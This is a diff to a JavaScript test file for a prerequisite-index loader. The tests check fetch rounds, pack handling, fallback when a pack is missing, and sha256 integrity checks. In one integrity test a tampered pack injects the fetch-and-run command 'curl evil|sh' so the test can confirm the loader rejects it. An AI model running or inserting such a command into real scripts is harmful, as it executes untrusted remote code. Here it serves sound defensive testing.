@@ -42,26 +42,85 @@ for (const name of readdirSync(join(CASES, "reader")).filter((n) => /^[0-9]{3}-.
   });
 }
 
+/* A reader of the story index (its item files in one pack) that records what it was asked, round by
+ * round (a round ends when nothing is pending); `change(path, bytes)` may alter or refuse a file. */
+function recordingReader({ change = (path, bytes) => bytes } = {}) {
+  const api = join(CASES, "indexes", "story", "api", "v1");
+  const reader = { asked: [], round: 0 };
+  let pending = 0;
+  reader.read = (path) => {
+    reader.asked.push([reader.round, path]);
+    pending += 1;
+    return new Promise((resolve, reject) => setTimeout(() => {
+      pending -= 1;
+      if (pending === 0) reader.round += 1;
+      try {
+        resolve(change(path, readFileSync(join(api, path))));
+      } catch (error) {
+        reject(error);
+      }
+    }, 0));
+  };
+  return reader;
+}
+
+const withoutPacks = (path, bytes) => {
+  if (path !== "index.json") return bytes;
+  const root = JSON.parse(new TextDecoder().decode(bytes));
+  delete root.packs;
+  return new TextEncoder().encode(JSON.stringify(root));
+};
+
+async function ensured(reader, names) {
+  const index = await Index.load("BASE", reader.read);
+  const start = reader.round;
+  await index.ensure(names);
+  return { index, asked: reader.asked.filter(([at]) => at >= start).map(([at, path]) => `${at - start} ${path}`).sort() };
+}
+
 /* The browser's own (the CLI reads item files as it needs them, so no shared case): a require chain
  * three items deep (mnist-data -> base-tools -> apt-proxy) is fetched in two rounds, not
  * three: an item file's closures name the rest at once (a 150-item closure was 19 rounds). */
-test("index fetching: ensure asks for a closure's files in two rounds: the item's, then the rest at once", async () => {
-  const api = join(CASES, "indexes", "story", "api", "v1");
-  const asked = [];
-  let [round, pending] = [0, 0];
-  const read = (path) => {
-    asked.push([round, path]);
-    pending += 1;
-    return new Promise((resolve) => setTimeout(() => {
-      pending -= 1;
-      if (pending === 0) round += 1;
-      resolve(readFileSync(join(api, path)));
-    }, 0));
-  };
-  const index = await Index.load("BASE", read);
-  const start = round;
-  await index.ensure(["mnist-data"]);
-  const rounds = asked.filter(([at]) => at >= start).map(([at, path]) => `${at - start} ${path}`);
-  assert.deepEqual(rounds.sort(), ["0 prerequisites/mnist-data.json", "1 prerequisites/apt-proxy.json",
+test("index fetching: without packs, ensure asks for a closure's files in two rounds: the item's, then the rest", async () => {
+  const { asked } = await ensured(recordingReader({ change: withoutPacks }), ["mnist-data"]);
+  assert.deepEqual(asked, ["0 prerequisites/mnist-data.json", "1 prerequisites/apt-proxy.json",
     "1 prerequisites/base-tools.json", "1 prerequisites/nfs-storage-1.json"]);
+});
+
+test("index fetching: with packs, a closure comes in one request per pack, each pack read once", async () => {
+  const reader = recordingReader();
+  const { index, asked } = await ensured(reader, ["mnist-data"]);
+  const [pack] = index.root.packs;
+  assert.deepEqual(asked, [`0 ${pack}`]);
+  const plain = await ensured(recordingReader({ change: withoutPacks }), ["mnist-data"]);
+  for (const name of ["mnist-data", "base-tools", "apt-proxy", "nfs-storage-1"]) {
+    assert.deepEqual(index.document(name), plain.index.document(name), name);
+  }
+  await index.ensure(["enable-ssh", "miniconda"]);
+  assert.deepEqual(reader.asked.filter(([, path]) => path === pack).length, 1);
+});
+
+/* A pack is a way to fetch, not a thing to trust: a line whose sha256 the root does not give is not used. */
+test("index fetching: a changed line of a pack is passed over for the item's own file, which is checked as ever", async () => {
+  const swap = (bytes, from, to) => new TextEncoder().encode(new TextDecoder().decode(bytes).replaceAll(from, to));
+  const tamperedPack = (path, bytes) => (path.startsWith("packs/") ? swap(bytes, "apt-get", "curl evil|sh; apt-get") : bytes);
+  const reader = recordingReader({ change: tamperedPack });
+  const { index, asked } = await ensured(reader, ["mnist-data"]);
+  assert.ok(asked.includes("1 prerequisites/base-tools.json"), asked.join(", "));
+  assert.ok(!JSON.stringify(index.document("base-tools")).includes("evil"));
+
+  const both = (path, bytes) => (path === "index.json" ? bytes : swap(bytes, "apt-get", "curl evil|sh; apt-get"));
+  await assert.rejects(ensured(recordingReader({ change: both }), ["mnist-data"]),
+    (error) => error instanceof PrereqError && /does not match the sha256 in index\.json/.test(error.message));
+});
+
+test("index fetching: a pack that cannot be read leaves the item files to be read one by one", async () => {
+  const missing = (path, bytes) => {
+    if (path.startsWith("packs/")) throw new PrereqError(`cannot load ${path} (404 Not Found)`);
+    return bytes;
+  };
+  const { index, asked } = await ensured(recordingReader({ change: missing }), ["mnist-data"]);
+  const files = asked.map((line) => line.split(" ")[1]).filter((path) => path.startsWith("prerequisites/"));
+  assert.deepEqual(files.sort(), ["apt-proxy", "base-tools", "mnist-data", "nfs-storage-1"].map((n) => `prerequisites/${n}.json`));
+  assert.equal(index.document("apt-proxy").name, "apt-proxy");
 });
